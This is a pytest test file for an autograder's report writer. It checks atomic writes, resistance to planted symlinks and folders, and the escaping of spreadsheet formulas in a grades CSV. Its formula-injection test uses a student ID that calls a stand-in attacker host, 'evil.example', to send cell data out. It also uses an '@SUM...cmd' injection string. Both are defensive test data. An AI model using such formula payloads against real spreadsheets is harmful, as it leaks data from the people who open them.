"""Report files are written atomically, never through what is planted in the output folder, and the CSV
never carries a live spreadsheet formula."""
from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import pytest

from conftest import FILES, grade_file
from grader import load_assignment
from grader.api import write_reports
from grader.reports.base import write_atomic
from grader.reports.csv import spreadsheet_safe
from grader.results import SubmissionResult

ASSIGNMENT = load_assignment("two-layer")


@pytest.fixture(scope="module")
def graded() -> SubmissionResult:
    return grade_file(FILES / "two_layer" / "fails_loss_sum.py")


def _as(result: SubmissionResult, student: str) -> SubmissionResult:
    from dataclasses import replace

    return replace(result, student=student)


def test_a_planted_folder_and_link_neither_redirect_nor_stop_the_reports(graded, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    classmate = tmp_path / "classmate.py"
    classmate.write_text("# a classmate's work\n")
    (out / "results.json").mkdir()  # a folder where a report goes
    (out / "results.json" / "inside").write_text("x")
    os.symlink(classmate, out / "grades.csv")  # a link to someone else's file
    os.symlink(classmate, out / "index.html")

    written = write_reports(results=[graded], assignment=ASSIGNMENT, out=out)

    assert classmate.read_text() == "# a classmate's work\n", "nothing was written through the link"
    for name in ("results.json", "grades.csv", "index.html"):
        assert (out / name).is_file() and not (out / name).is_symlink()
    assert json.loads((out / "results.json").read_text())[0]["student"] == graded.student
    moved = [p for p in out.iterdir() if p.name.startswith("results.json.moved-")]
    assert len(moved) == 1 and (moved[0] / "inside").read_text() == "x", "the planted folder is set aside, intact"
    assert sorted(p.name for p in written) == sorted(["results.json", "grades.csv", "index.html",
                                                      "fails_loss_sum.html"])
    assert not [p for p in out.iterdir() if p.name.endswith(".tmp")], "no temporary file is left"


def test_a_failed_write_leaves_the_old_file_whole(tmp_path):
    (tmp_path / "grades.csv").write_text("old\n")

    class Unprintable(str):
        def encode(self, *args: object) -> bytes:  # the payload cannot be made: the write fails first
            raise UnicodeError("cannot encode")

    with pytest.raises(UnicodeError):
        write_atomic(tmp_path, "grades.csv", Unprintable("new"))
    assert (tmp_path / "grades.csv").read_text() == "old\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["grades.csv"]


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x\",\"y\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_formula_characters_are_escaped(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["alice", "1.5", "", "a=b"])
def test_ordinary_text_is_unchanged(text):
    assert spreadsheet_safe(text) == text


def test_a_student_id_that_is_a_formula_stays_text_in_grades_csv(graded, tmp_path):
    evil = _as(graded, '=HYPERLINK("http://evil.example/?"&A2,"click")')
    write_reports(results=[evil, _as(graded, "@SUM(1+1)*cmd")], assignment=ASSIGNMENT, out=tmp_path, formats=["csv"])
    with (tmp_path / "grades.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["student"] for r in rows] == ["'" + evil.student, "'@SUM(1+1)*cmd"]
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for value in r.values())
    assert rows[0]["score"] == f"{graded.score:g}", "numbers stay numbers"
